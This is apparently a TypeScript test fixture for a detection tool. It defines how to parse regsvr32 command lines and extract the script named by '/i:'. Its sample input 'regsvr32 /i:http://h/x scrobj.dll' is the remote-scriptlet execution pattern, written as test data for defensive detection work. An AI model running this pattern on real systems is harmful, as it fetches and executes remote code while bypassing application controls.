import type { Technique } from "../../../src/techniques/technique.ts";

/** A technique as somebody would add it: regsvr32 runs the script that `/i:` names. */
export const REGSVR32: Technique = {
  program: "regsvr32",
  columns: ["Regsvr32Script"],
  derive: (line) => ({ Regsvr32Script: /\s\/i:"?([^\s"]*)/i.exec(line)?.[1] ?? "" }),
  needles: (_, script) => (script === "" ? [] : [script]),
  use: {
    template: "Regsvr32Script",
    bound: ["Regsvr32Script"],
    tellEmpty: [],
    boundInstead: {},
    cells: {},
    ordinary: {},
    refusal: () => undefined,
  },
  weakness: {
    chosen: [],
    telling: { column: "Regsvr32Script", words: "the script" },
    everyStart: ["c:\\windows\\system32\\regsvr32.exe "],
    everyEnding: [],
  },
  passing: (term) => `regsvr32 /i:http://h/x scrobj.dll ${term}`,
};
